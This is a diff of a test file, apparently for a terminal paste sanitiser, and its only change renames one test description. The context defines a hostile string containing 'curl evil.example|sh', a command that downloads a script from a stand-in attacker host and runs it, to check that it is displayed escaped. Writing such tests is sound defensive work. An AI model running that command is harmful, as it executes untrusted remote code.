@@ -63,7 +63,7 @@ describe('a copy by the terminal', () => {
 	});
 });
 
-describe('a tag that would act where it is pasted', () => {
+describe('a tag that would act if it is pasted', () => {
 	const hostile = 'os:x\ncurl evil.example|sh\n';
 	const shown = 'os:x^Jcurl evil.example|sh^J';
 
